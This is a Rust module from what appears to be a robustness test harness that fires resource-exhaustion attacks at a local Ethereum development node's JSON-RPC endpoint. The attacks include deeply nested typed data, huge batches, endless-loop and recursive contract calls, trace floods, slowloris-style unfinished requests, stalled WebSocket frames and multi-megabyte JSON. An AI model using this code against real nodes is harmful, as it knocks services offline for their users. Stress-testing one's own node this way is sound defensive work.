//! The attacks, each what any web page can send.

use std::io;
use std::thread;
use std::time::Duration;

use alloy::primitives::{Address, Bytes, U256, address, hex};
use serde_json::{Map, Value, json};

use super::page::{ask, send};
use super::socket::Socket;
use crate::Fallible;
use crate::client::Client;

/// A contract that answers 42: what others call.
pub(crate) const CONTRACT: Address = address!("00000000000000000000000000000000000c0de1");
const CONTRACT_CODE: &str = "0x602a5f5260205ff3";
/// `JUMPDEST; PUSH0; JUMP`
const LOOP: Address = address!("00000000000000000000000000000000000c0de2");
const LOOP_CODE: &str = "0x5b5f56";
/// Logs memory of 1 KiB again and again: `JUMPDEST; LOG0(0, 1024); JUMP(0)`
const LOGGER: Address = address!("00000000000000000000000000000000000c0de3");
const LOGGER_CODE: &str = "0x5b6104005fa05f56";
/// Calls itself with all its gas: `CALL(GAS, ADDRESS, 0, 0, 1024, 0, 0)`
const RECURSION: Address = address!("00000000000000000000000000000000000c0de4");
const RECURSION_CODE: &str = "0x5f5f6104005f5f305af1";
/// Has much code.
const LARGE: Address = address!("00000000000000000000000000000000000c0de5");
const LARGE_CODE: usize = 2 << 20;
/// `ArbWasm`, which compiles programs.
const ARB_WASM: Address = Address::with_last_byte(0x71);
/// Requests of a batch: as many as Nitro's server takes.
const BATCH: usize = 1_000;
/// How long a reader that does not read stays.
const STARE: Duration = Duration::from_secs(5);
/// Readers that one attacker has at once.
const READERS: usize = 30;

/// One kind of harm.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// Does it once, `round` being another number each time; how many requests it sent.
    pub(crate) act: fn(&Scene, u64) -> io::Result<u64>,
}

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "typed data, deep",
        act: typed,
    },
    Attack {
        name: "filters",
        act: filters,
    },
    Attack {
        name: "batches of blocks and logs",
        act: batches,
    },
    Attack {
        name: "eth_simulateV1",
        act: simulations,
    },
    Attack {
        name: "tracers",
        act: traces,
    },
    Attack {
        name: "endless calls and estimates",
        act: endless,
    },
    Attack {
        name: "callers that leave",
        act: leaving,
    },
    Attack {
        name: "activations",
        act: activations,
    },
    Attack {
        name: "transactions",
        act: transactions,
    },
    Attack {
        name: "snapshots",
        act: snapshots,
    },
    Attack {
        name: "slow readers, HTTP",
        act: slow_readers,
    },
    Attack {
        name: "slow readers, WebSocket",
        act: slow_sockets,
    },
    Attack {
        name: "announced frames, WebSocket",
        act: announced,
    },
    Attack {
        name: "batches of large answers",
        act: large_batches,
    },
    Attack {
        name: "unfinished requests",
        act: unfinished,
    },
    Attack {
        name: "large and nested JSON",
        act: garbage,
    },
    Attack {
        name: "dumps",
        act: dumps,
    },
];

/// Reads of what only the endpoint of a fork has.
pub(crate) const FORKED: Attack = Attack {
    name: "reads of the endpoint",
    act: unknown_accounts,
};

/// A node with what the attacks need.
pub(crate) struct Scene {
    pub(crate) host: String,
    sender: Value,
    program: Bytes,
}

impl Scene {
    /// Puts the contracts there, and asks once what others will ask.
    pub(crate) fn prepare(host: &str) -> Fallible<Self> {
        let mut client = Client::connect(host)?;
        let large = format!("0x{}", "fe".repeat(LARGE_CODE));
        for (at, code) in [
            (CONTRACT, CONTRACT_CODE),
            (LOOP, LOOP_CODE),
            (LOGGER, LOGGER_CODE),
            (RECURSION, RECURSION_CODE),
            (LARGE, &large),
        ] {
            client.ask("anvil_setCode", json!([at, code]))?;
        }
        client.ask("eth_call", json!([{ "to": CONTRACT }, "latest"]))?;
        let sender = client.ask("eth_accounts", json!([]))?[0].clone();
        // Many logs to look for.
        for _ in 0..10 {
            let logging = json!({ "from": sender, "to": LOGGER, "gas": "0x989680" });
            client.ask("eth_sendTransaction", json!([logging]))?;
        }
        Ok(Self {
            host: host.to_owned(),
            sender,
            program: program()?,
        })
    }

    /// Asks, and reads the answer.
    fn ask(&self, method: &str, params: Value) -> io::Result<u64> {
        ask(&self.host, &request(method, params).to_string()).map(|_| 1)
    }

    /// Asks the same many times in one batch.
    fn batch(&self, request: Value) -> io::Result<u64> {
        let body = Value::from(vec![request; BATCH]);
        ask(&self.host, &body.to_string()).map(|_| BATCH as u64)
    }
}

fn request(method: &str, params: Value) -> Value {
    json!({ "jsonrpc": "2.0", "id": 1, "method": method, "params": params })
}

/// Code of a program with many functions.
fn program() -> Fallible<Bytes> {
    let body = "(local.set 0 (i32.add (local.get 0) (i32.const 7)))".repeat(40);
    let function = format!("(func (param i32) (result i32) {body} (local.get 0))");
    let text = format!(
        "(module {} (memory (export \"memory\") 1 1)
            (func (export \"user_entrypoint\") (param i32) (result i32) (i32.const 0)))",
        function.repeat(200)
    );
    Ok(stylus_vm::compress(&wat::parse_str(text)?)?.into())
}

/// Types that stand for 2^26 words.
fn typed(scene: &Scene, round: u64) -> io::Result<u64> {
    const DEPTH: usize = 26;
    let mut types = Map::new();
    for at in 0..DEPTH {
        let next = format!("T{}", at + 1);
        let fields = json!([{ "name": "a", "type": next }, { "name": "b", "type": next }]);
        types.insert(format!("T{at}"), fields);
    }
    types.insert(
        format!("T{DEPTH}"),
        json!([{ "name": "a", "type": "uint256" }]),
    );
    let data = json!({ "types": types, "primaryType": "T0", "domain": {}, "message": {} });
    let body = request("eth_signTypedData_v4", json!([scene.sender, data])).to_string();
    match round.is_multiple_of(4) {
        true => ask(&scene.host, &body).map(|_| 1),
        false => send(&scene.host, &body).map(|_| 1),
    }
}

fn filters(scene: &Scene, round: u64) -> io::Result<u64> {
    match round % 3 {
        0 => {
            let topics: Vec<U256> = (0..100).map(U256::from).collect();
            let filter = json!([{ "topics": [topics.iter().map(|topic| format!("{topic:#066x}")).collect::<Vec<_>>()] }]);
            scene.batch(request("eth_newFilter", filter))
        }
        1 => scene.batch(request("eth_newBlockFilter", json!([]))),
        _ => scene.batch(request("eth_newPendingTransactionFilter", json!([]))),
    }
}

fn batches(scene: &Scene, round: u64) -> io::Result<u64> {
    match round % 3 {
        0 => scene.batch(request("eth_getBlockByNumber", json!(["latest", true]))),
        1 => scene.batch(request(
            "eth_getLogs",
            json!([{ "fromBlock": "0x0", "toBlock": "latest" }]),
        )),
        _ => scene.batch(request("eth_feeHistory", json!(["0x400", "latest", [50]]))),
    }
}

fn simulations(scene: &Scene, round: u64) -> io::Result<u64> {
    let call = match round % 3 {
        0 => json!({ "from": scene.sender, "to": LOOP }),
        1 => json!({ "from": scene.sender, "to": LOGGER, "gas": "0x5f5e100" }),
        _ => json!({ "from": scene.sender, "to": CONTRACT }),
    };
    let blocks = match round % 3 {
        2 => vec![json!({ "calls": vec![call; 20] }); 250],
        _ => vec![json!({ "calls": vec![call; 500] })],
    };
    let params = json!([{ "blockStateCalls": blocks, "traceTransfers": true }, "latest"]);
    scene.ask("eth_simulateV1", params)
}

fn traces(scene: &Scene, round: u64) -> io::Result<u64> {
    let options = [
        json!({ "enableMemory": true, "enableReturnData": true }),
        json!({ "tracer": "callTracer", "tracerConfig": { "withLog": true } }),
        json!({ "tracer": "prestateTracer" }),
        json!({ "tracer": "stylusTracer" }),
        json!({ "tracer": "flatCallTracer" }),
        json!({}),
    ];
    let to = [LOOP, RECURSION, LOGGER, LARGE];
    let choose = |of: usize| usize::try_from(round).unwrap_or_default() % of;
    let call = json!({ "from": scene.sender, "to": to[choose(to.len())] });
    let options = &options[choose(options.len())];
    scene.ask("debug_traceCall", json!([call, "latest", options]))
}

fn endless(scene: &Scene, round: u64) -> io::Result<u64> {
    let to = [LOOP, RECURSION, LOGGER][usize::try_from(round % 3).unwrap_or_default()];
    let call = json!({ "from": scene.sender, "to": to });
    match round % 4 {
        0 => scene.ask("eth_estimateGas", json!([call])),
        1 => scene.ask("eth_createAccessList", json!([call, "latest"])),
        _ => scene.ask("eth_call", json!([call, "latest"])),
    }
}

/// Nobody waits for these answers.
fn leaving(scene: &Scene, round: u64) -> io::Result<u64> {
    let call = json!({ "from": scene.sender, "to": LOOP });
    let (method, params) = match round % 3 {
        0 => ("debug_traceCall", json!([call, "latest", {}])),
        1 => ("eth_call", json!([call, "latest"])),
        _ => ("eth_getProof", json!([LARGE, vec!["0x1"; 1_024], "latest"])),
    };
    let body = request(method, params).to_string();
    let sent = send(&scene.host, &body)?;
    thread::sleep(Duration::from_millis(2));
    drop(sent);
    Ok(1)
}

/// Each compiles a program, which is another one each time.
fn activations(scene: &Scene, round: u64) -> io::Result<u64> {
    // activateProgram(address)
    let input = [&hex!("58c780c2")[..], CONTRACT.into_word().as_slice()].concat();
    let code = [&scene.program[..], &round.to_be_bytes()].concat();
    let call = json!({
        "from": scene.sender, "to": ARB_WASM, "value": "0xde0b6b3a7640000", "data": Bytes::from(input),
    });
    let overrides = json!({ CONTRACT.to_string(): { "code": Bytes::from(code) } });
    scene.ask("eth_call", json!([call, "latest", overrides]))
}

fn transactions(scene: &Scene, round: u64) -> io::Result<u64> {
    let to = [LOOP, CONTRACT][usize::try_from(round % 2).unwrap_or_default()];
    let transaction = json!({ "from": scene.sender, "to": to, "gas": "0x1e84800" });
    scene.ask("eth_sendTransaction", json!([transaction]))
}

fn snapshots(scene: &Scene, _: u64) -> io::Result<u64> {
    scene.batch(request("evm_snapshot", json!([])))
}

fn slow_readers(scene: &Scene, _: u64) -> io::Result<u64> {
    let body = request("eth_getCode", json!([LARGE, "latest"])).to_string();
    let readers = (0..READERS).map(|_| send(&scene.host, &body));
    let readers = readers.collect::<io::Result<Vec<_>>>()?;
    thread::sleep(STARE);
    Ok(readers.len() as u64)
}

fn slow_sockets(scene: &Scene, _: u64) -> io::Result<u64> {
    let code = request("eth_getCode", json!([LARGE, "latest"])).to_string();
    let mut sockets = Vec::new();
    for _ in 0..READERS {
        let mut socket = Socket::connect(&scene.host)?;
        socket.send(&request("eth_subscribe", json!(["newHeads"])).to_string())?;
        socket.send(&request("eth_subscribe", json!(["logs", {}])).to_string())?;
        for _ in 0..20 {
            socket.send(&code)?;
        }
        sockets.push(socket);
    }
    thread::sleep(STARE);
    Ok(22 * READERS as u64)
}

/// Frames that say how long they are, and do not come.
fn announced(scene: &Scene, _: u64) -> io::Result<u64> {
    const SOCKETS: u64 = 300;
    let mut sockets = Vec::new();
    for _ in 0..SOCKETS {
        let mut socket = Socket::connect(&scene.host)?;
        socket.announce(5 << 20)?;
        sockets.push(socket);
    }
    thread::sleep(STARE);
    Ok(SOCKETS)
}

/// Each answer is long, and all of them fit into what a batch may have.
fn large_batches(scene: &Scene, _: u64) -> io::Result<u64> {
    const REQUESTS: usize = 15;
    let body = vec![request("eth_getCode", json!([LARGE, "latest"])); REQUESTS];
    let body = Value::from(body).to_string();
    let open = (0..8).map(|_| send(&scene.host, &body));
    let open = open.collect::<io::Result<Vec<_>>>()?;
    thread::sleep(STARE);
    Ok((open.len() * REQUESTS) as u64)
}

fn unfinished(scene: &Scene, _: u64) -> io::Result<u64> {
    use io::Write as _;
    let mut open = Vec::new();
    for _ in 0..300 {
        let mut stream = std::net::TcpStream::connect(&scene.host)?;
        let head = "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 5000000\r\n\r\n";
        stream.write_all(head.as_bytes())?;
        stream.write_all(&vec![b'['; 64 << 10])?;
        open.push(stream);
    }
    thread::sleep(STARE);
    Ok(open.len() as u64)
}

fn garbage(scene: &Scene, round: u64) -> io::Result<u64> {
    const BODY: usize = 5 << 20;
    let body = match round % 4 {
        0 => "[".repeat(BODY),
        1 => format!("[{}1]", "1,".repeat(BODY / 2 - 2)),
        2 => request(
            "eth_call",
            json!([{ "to": CONTRACT, "data": format!("0x{}", "00".repeat(BODY / 2 - 200)) }, "latest"]),
        )
        .to_string(),
        _ => request("eth_getBalance", json!(vec!["x"; BODY / 5])).to_string(),
    };
    ask(&scene.host, &body).map(|_| 1)
}

fn dumps(scene: &Scene, _: u64) -> io::Result<u64> {
    scene.ask("anvil_dumpState", json!([]))
}

/// Accounts, blocks and logs that are not known here, on many connections at once.
fn unknown_accounts(scene: &Scene, round: u64) -> io::Result<u64> {
    let mut open = Vec::new();
    for at in 0..READERS as u64 {
        let number = U256::from(round * READERS as u64 + at + (1 << 40));
        let account = Address::from_word(number.into());
        let (method, params) = match at % 4 {
            0 => ("eth_getBalance", json!([account, "latest"])),
            1 => ("eth_call", json!([{ "to": account }, "latest"])),
            2 => ("eth_getBlockByNumber", json!(["0x0", true])),
            _ => (
                "eth_getLogs",
                json!([{ "fromBlock": "0x0", "toBlock": "0x0" }]),
            ),
        };
        open.push(send(&scene.host, &request(method, params).to_string())?);
    }
    thread::sleep(Duration::from_millis(500));
    Ok(open.len() as u64)
}
